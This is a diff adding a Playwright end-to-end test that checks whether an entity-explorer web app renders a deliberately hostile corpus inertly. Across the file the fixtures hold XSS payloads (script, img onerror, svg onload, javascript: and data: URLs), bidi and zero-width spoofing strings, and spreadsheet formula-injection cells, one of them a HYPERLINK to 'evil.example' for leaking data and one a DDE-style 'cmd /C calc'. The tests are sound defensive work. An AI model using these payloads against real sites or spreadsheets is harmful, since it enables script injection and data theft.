@@ -1,0 +1,254 @@
+// Hostile content is inert: a corpus whose every text field carries markup, script and data URLs,
+// bidi controls, zero-width characters, RTL text and emoji (e2e/corpora/hostile) renders as text.
+// It is served by the config's second webServer, built from that corpus alone.
+import { readFile } from 'node:fs/promises';
+import { compileCorpus } from '../src/compiler/compileCorpus';
+import { readCorpusDir } from '../src/compiler/readCorpusDir';
+import { detailsPanel, expect, openExplorer, test } from './fixtures';
+import type { Download, Locator, Page } from '@playwright/test';
+
+test.use({ baseURL: process.env.HOSTILE_BASE_URL ?? 'http://127.0.0.1:4318/' });
+
+const IMG = '<img src=x onerror="window.__pwned=1">';
+const SVG = '<svg onload=window.__pwned=1>';
+const SCRIPT = '<script>window.__pwned=1</script>';
+const JS_URL = 'javascript:window.__pwned=1';
+const DATA_URL = 'data:text/html,<script>window.__pwned=1</script>';
+const ARABIC = 'وزارة الإعلام';
+const HEBREW = 'משרד התקשורת';
+const MALLORY = 'Mallory 🕵️‍♀️';
+const BIDI_ALIAS = 'evil\u202Egnp.exe\u202C';
+const ZERO_WIDTH_DESCRIPTION =
+  'Isolates \u2066right\u2069 \u2067left\u2069 \u2068first\u2069; zero\u200Bwidth\u200Cnon\u200Djoiner\uFEFFbom; 👩🏽‍💻 and an unclosed \u202Eoverride';
+const CLAIM_LABEL = `">${SCRIPT}`;
+const RELATION_LABEL = `${IMG} took part in ${ARABIC}`;
+const DISPATCH_TITLE = `${SCRIPT} Hostile dispatch`;
+const DISPATCH_URL = `http://example.org/a?q="><script>window.__pwned=1</script>`;
+const RTL_TITLE = 'تقرير \u202Ereport 🇺🇸 דו"ח';
+const RTL_URL = "https://example.org/דוח?x=' onmouseover='window.__pwned=1";
+
+interface Inertness {
+  pwned: string;
+  handlerAttributes: string[];
+  nonWebLinks: string[];
+  embedded: string[];
+  inlineScripts: number;
+}
+
+/** Whatever could run: a global set by a payload, event-handler attributes, script-capable links. */
+async function inertness(page: Page): Promise<Inertness> {
+  return page.evaluate(() => {
+    const handlerAttributes: string[] = [];
+    for (const element of document.querySelectorAll('*')) {
+      for (const attribute of element.attributes) {
+        if (/^on/i.test(attribute.name)) handlerAttributes.push(`${element.tagName} ${attribute.name}`);
+      }
+    }
+    return {
+      pwned: typeof (window as { __pwned?: unknown }).__pwned,
+      handlerAttributes,
+      nonWebLinks: [...document.querySelectorAll<HTMLAnchorElement>('a[href]')]
+        .filter((link) => link.protocol !== 'http:' && link.protocol !== 'https:')
+        .map((link) => link.getAttribute('href') ?? ''),
+      embedded: [...document.querySelectorAll('img, iframe, object, embed, frame, video, audio, form')].map(
+        (element) => element.outerHTML.slice(0, 80),
+      ),
+      inlineScripts: document.querySelectorAll('script:not([src])').length,
+    };
+  });
+}
+
+async function expectInert(page: Page, requestsToX: string[]): Promise<void> {
+  expect(await inertness(page)).toEqual({
+    pwned: 'undefined',
+    handlerAttributes: [],
+    nonWebLinks: [],
+    embedded: [],
+    inlineScripts: 0,
+  });
+  // `<img src=x>` parsed as markup would fetch ./x even where the CSP stops its onerror.
+  expect(requestsToX).toEqual([]);
+}
+
+function watchRequestsToX(page: Page): string[] {
+  const seen: string[] = [];
+  page.on('request', (request) => {
+    if (new URL(request.url()).pathname.endsWith('/x')) seen.push(request.url());
+  });
+  return seen;
+}
+
+/** Exact text, bidi and zero-width characters included (toHaveText would trim and fold spaces). */
+async function rawText(locator: Locator): Promise<string> {
+  return locator.evaluate((element) => element.textContent ?? '');
+}
+
+async function pick(page: Page, query: string, label: string): Promise<Locator> {
+  const search = page.getByRole('combobox', { name: 'Search entities' });
+  await search.fill(query);
+  const results = page.getByRole('listbox', { name: 'Search entities results' });
+  await expect(results.getByRole('option', { selected: true })).toContainText(label);
+  await search.press('Enter');
+  const details = detailsPanel(page, label);
+  await expect(details).toBeVisible();
+  return details;
+}
+
+// Once with the production CSP and once with it bypassed, so that escaping alone is shown to
+// hold: a payload that reached the DOM as markup would then really run and set window.__pwned.
+for (const bypassCSP of [false, true]) {
+  test.describe(bypassCSP ? 'with the CSP bypassed' : 'under the production CSP', () => {
+    test.use({ bypassCSP });
+
+    test('labels, aliases, descriptions, ids and legends render as text', async ({ page }) => {
+      const requestsToX = watchRequestsToX(page);
+      await openExplorer(page);
+      await expect(page.getByRole('heading', { level: 1 })).toHaveText(`${SCRIPT} Hostile corpus 🔥`);
+      const list = page.getByRole('listbox', { name: /Entities shown/ });
+      await expect(list.getByText(IMG, { exact: true })).toBeVisible();
+      await expect(list.getByText(JS_URL, { exact: true })).toBeVisible();
+      await expect(list.getByText(CLAIM_LABEL, { exact: true })).toBeVisible();
+      await expect(page.getByText('<b onmouseover="window.__pwned=1">pwned</b>', { exact: true })).toBeVisible();
+
+      const img = await pick(page, '<img', IMG);
+      await expect(img.getByText(`Also called: ${SVG}`, { exact: true })).toBeVisible();
+      await expect(img.getByText(`${SCRIPT} <iframe src="${JS_URL}"></iframe> & friends`)).toBeVisible();
+      // A Wikidata id that is not Q + digits and any other scheme stay text, never links.
+      await expect(img.getByText('wikidata: Q1" onmouseover="window.__pwned=1', { exact: true })).toBeVisible();
+      await expect(img.getByText(`homepage: ${JS_URL}`, { exact: true })).toBeVisible();
+      await expect(img.getByRole('link')).toHaveCount(0);
+      await expect(img.locator('blockquote').first()).toHaveText(`“${IMG} announced a meeting with ${ARABIC}”`);
+      await expect(img.getByRole('button', { name: ARABIC, exact: true }).first()).toBeVisible();
+      await expect(img.getByRole('button', { name: CLAIM_LABEL, exact: true })).toBeVisible();
+
+      // Bidi overrides and zero-width characters reach the page unchanged, as characters.
+      const mallory = await pick(page, 'Mallory', MALLORY);
+      expect(await rawText(mallory.getByText(/^Also called:/))).toBe(`Also called: ${BIDI_ALIAS}`);
+      expect(await rawText(mallory.getByText(/^Isolates/))).toBe(ZERO_WIDTH_DESCRIPTION);
+
+      // RTL labels and aliases are searchable like any other.
+      await pick(page, HEBREW, ARABIC);
+      const ministry = detailsPanel(page, ARABIC);
+      await expect(ministry.getByText(`Also called: ${HEBREW}`, { exact: true })).toBeVisible();
+
+      const formula = await pick(page, 'HYPERLINK', '=HYPERLINK("http://evil.example/?leak","click me")');
+      await expect(formula.getByText("@SUM(1+1)*cmd|' /C calc'!A0", { exact: true })).toBeVisible();
+      await expectInert(page, requestsToX);
+    });
+
+    test('claims, relations, quotes and the reader render as text; only http(s) addresses are links', async ({
+      page,
+    }) => {
+      const requestsToX = watchRequestsToX(page);
+      await openExplorer(page);
+      const img = await pick(page, '<img', IMG);
+      await img.getByRole('button', { name: CLAIM_LABEL, exact: true }).click();
+
+      const claim = detailsPanel(page, CLAIM_LABEL);
+      await expect(claim).toBeVisible();
+      await expect(claim.getByText(`${SVG} is our name now.`, { exact: true }).first()).toBeVisible();
+      await expect(claim.getByText(`<a href="${JS_URL}">venue</a>`, { exact: true })).toBeVisible();
+      await expect(claim.getByRole('link')).toHaveCount(0);
+      await claim.getByRole('button', { name: RELATION_LABEL, exact: true }).click();
+
+      const relation = detailsPanel(page, RELATION_LABEL);
+      await expect(relation).toBeVisible();
+      await expect(relation.getByText(`${IMG} note`, { exact: true })).toBeVisible();
+      await expect(relation.getByText(`("on 3 May 2021" in the text ${SCRIPT})`, { exact: true })).toBeVisible();
+      const dispatchQuote = relation.getByRole('listitem').filter({ hasText: DISPATCH_TITLE });
+      await expect(dispatchQuote.locator('blockquote')).toHaveText(`“${IMG} announced a meeting with ${ARABIC}”`);
+      await dispatchQuote.getByRole('button', { name: 'Show in source' }).click();
+
+      const reader = page.getByRole('region', { name: DISPATCH_TITLE, exact: true });
+      await expect(reader).toBeVisible();
+      await expect(reader.getByText(IMG, { exact: true }).first()).toBeVisible();
+      await expect(reader.getByText(`"><svg onload=window.__pwned=1>`, { exact: true })).toBeVisible();
+      await expect(reader.getByText(`${JS_URL} — ${DATA_URL}`, { exact: true })).toBeVisible();
+      // The address is a link to exactly the http URL the corpus gives, quotes and brackets included.
+      const address = reader.getByRole('link', { name: DISPATCH_URL, exact: true });
+      await expect(address).toHaveAttribute('href', DISPATCH_URL);
+      await expect(address).toHaveAttribute('rel', /noopener/);
+      const text = reader.locator('.source-text');
+      expect(await rawText(text)).toContain(`Hostile dispatch ${SCRIPT}`);
+      expect(await rawText(text)).toContain('evil\u202Egnp.exe\u202C and wrote \u2066right\u2069');
+      await expect(reader.getByRole('button', { name: IMG, exact: true }).first()).toBeVisible();
+      await expect(reader.getByRole('button', { name: JS_URL, exact: true })).toBeVisible();
+      await expect(reader.locator('mark.focused').first()).toBeFocused();
+
+      await page.getByRole('button', { name: `Read “${RTL_TITLE}”`, exact: true }).click();
+      const rtl = page.getByRole('region', { name: RTL_TITLE, exact: true });
+      await expect(rtl).toBeVisible();
+      await expect(rtl.getByRole('link', { name: RTL_URL, exact: true })).toHaveAttribute('href', RTL_URL);
+      await expect(rtl.getByText('<b onmouseover=window.__pwned=1>bold</b>')).toBeVisible();
+      await expect(rtl.getByRole('button', { name: ARABIC, exact: true }).first()).toBeVisible();
+      await expectInert(page, requestsToX);
+    });
+  });
+}
+
+async function exportText(page: Page, format: string): Promise<string> {
+  const menu = page.locator('details', { has: page.getByText('Export', { exact: true }) });
+  if (!(await menu.evaluate((element) => (element as HTMLDetailsElement).open))) {
+    await page.getByText('Export', { exact: true }).click();
+  }
+  const [download]: [Download, void] = await Promise.all([
+    page.waitForEvent('download'),
+    page.getByRole('button', { name: `Export ${format}`, exact: true }).click(),
+  ]);
+  const path = await download.path();
+  return readFile(path, 'utf8');
+}
+
+test('exports carry the payloads as escaped data', async ({ page }) => {
+  await openExplorer(page);
+
+  const json = JSON.parse(await exportText(page, 'JSON (graphology)')) as {
+    nodes: { key: string; attributes: { label: string; description: string } }[];
+  };
+  const labelOf = (key: string) => json.nodes.find((node) => node.key === key)?.attributes.label;
+  expect(labelOf('img-group')).toBe(IMG);
+  expect(labelOf('mallory')).toBe(MALLORY);
+
+  // XML formats: no payload survives as markup, and an XML parser reads the labels back exactly.
+  for (const format of ['GEXF', 'GraphML']) {
+    const xml = await exportText(page, format);
+    expect(xml, format).not.toMatch(/<(script|img|svg)\b/);
+    const labels = await page.evaluate(
+      ({ source, graphml }) => {
+        const doc = new DOMParser().parseFromString(source, 'application/xml');
+        if (doc.querySelector('parsererror')) return ['parse error'];
+        return graphml
+          ? [...doc.querySelectorAll('node > data[key="node-label"]')].map((data) => data.textContent ?? '')
+          : [...doc.querySelectorAll('node')].map((node) => node.getAttribute('label') ?? '');
+      },
+      { source: xml, graphml: format === 'GraphML' },
+    );
+    expect(labels, format).toEqual(expect.arrayContaining([IMG, CLAIM_LABEL, JS_URL, ARABIC]));
+  }
+
+  // CSV: a cell a spreadsheet would evaluate is defused with a leading quote.
+  const csv = await exportText(page, 'CSV nodes');
+  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click me"")"`);
+  expect(csv).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+  expect(csv).toContain(`"${IMG.replace(/"/g, '""')}"`);
+  expect((await inertness(page)).pwned).toBe('undefined');
+});
+
+test('the compiler refuses javascript: and data: source URLs, so none can reach the page', async () => {
+  const files = await readCorpusDir('e2e/corpora/hostile');
+  const yaml = String(files['sources/hostile-dispatch.yaml']);
+  for (const url of [JS_URL, 'data:text/html,x', 'JaVaScRiPt:alert(1)', 'ftp://example.org/']) {
+    const result = compileCorpus({
+      ...files,
+      'sources/hostile-dispatch.yaml': yaml.replace(/^url: .*$/m, `url: '${url}'`),
+    });
+    expect(result.graph, url).toBeUndefined();
+    expect(result.diagnostics, url).toContainEqual(
+      expect.objectContaining({
+        file: 'sources/hostile-dispatch.yaml',
+        line: 5,
+        message: expect.stringContaining('is not an http(s) URL'),
+      }),
+    );
+  }
+});
